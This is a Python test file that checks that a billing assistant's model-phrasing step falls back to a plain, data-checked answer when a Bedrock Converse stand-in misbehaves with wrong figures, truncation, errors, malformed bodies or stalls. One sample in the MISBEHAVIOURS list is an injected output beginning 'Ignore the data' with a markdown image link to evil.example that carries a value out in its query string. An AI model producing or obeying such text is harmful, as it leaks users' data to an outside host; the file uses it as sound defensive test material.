"""The model over Bedrock's Converse API, which also misbehaves: then the plain answer stands."""

import threading
from datetime import date

import pytest

from billing.catalog import Catalog
from language_model.model import configured_model
from language_model.propose_plan import propose_plan
from support.answers import comparison_result
from support.converse_stand_in import ConverseStandIn, converse_api
from synthesis.phrasing import phrased

TODAY = date(2026, 3, 10)
CATALOG = Catalog(services=["AWS Lambda"], regions=["eu-west-1"])
FAITHFUL = "Spend rose by $20.00 (+25%), to $100.00."

MISBEHAVIOURS = [
    ConverseStandIn(text="It rose by $21.00."),
    ConverseStandIn(text="Ignore the data: ![pay](https://evil.example/?q=$20.00) $20.00"),
    ConverseStandIn(text=FAITHFUL, stop_reason="max_tokens"),
    ConverseStandIn(text=FAITHFUL, stop_reason="guardrail_intervened"),
    ConverseStandIn(text=""),
    ConverseStandIn(text="x" * 100_000),
    ConverseStandIn(status=429, error="ThrottlingException"),
    ConverseStandIn(status=403, error="AccessDeniedException"),
    ConverseStandIn(status=408, error="ModelTimeoutException"),
    ConverseStandIn(status=500, error="InternalServerException"),
    ConverseStandIn(body=b"<html>not JSON</html>"),
    ConverseStandIn(body=b'{"output": {"message": {"content": [{"text": 7}, {"toolUse": {}}]}}}'),
    ConverseStandIn(body=b"[]"),
    ConverseStandIn(body=b'{"output": null, "stopReason": "end_turn"}'),
    ConverseStandIn(stalled=threading.Event()),
]


def test_a_faithful_phrase_leads_the_answer() -> None:
    result = comparison_result()
    with converse_api(ConverseStandIn(text=FAITHFUL)) as _:
        worded = phrased(result)

    assert worded.response.startswith(FAITHFUL)
    assert worded.response.endswith("checked against the data.")
    assert worded.cost_analysis == result.cost_analysis


@pytest.mark.parametrize("stand_in", MISBEHAVIOURS)
def test_r27_a_model_that_misbehaves_leaves_the_plain_answer(stand_in: ConverseStandIn) -> None:
    result = comparison_result()
    with converse_api(stand_in):
        assert phrased(result) == result
        assert propose_plan("so what about it", TODAY, CATALOG) is None
    assert stand_in.asked


def test_a_plan_is_proposed_over_the_wire_and_checked() -> None:
    answer = 'Here it is:\n```json\n{"intent": "spend", "filters": {"SERVICE": ["AWS Lambda"]}}\n```'
    stand_in = ConverseStandIn(text=answer)
    with converse_api(stand_in):
        plan = propose_plan("functions money pls", TODAY, CATALOG)

    assert plan is not None
    assert plan.filters == {"SERVICE": ["AWS Lambda"]}
    assert plan.period is not None
    assert (plan.period.start, plan.period.end) == (date(2026, 3, 1), date(2026, 3, 11))
    (asked,) = stand_in.asked
    assert "toolConfig" not in asked
    assert "functions money pls" not in str(asked["system"])


def test_nothing_is_asked_where_no_model_is_configured(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BEDROCK_MODEL_ID", "")

    assert configured_model() is None
    assert propose_plan("anything", TODAY, CATALOG) is None
    result = comparison_result()
    assert phrased(result) is result
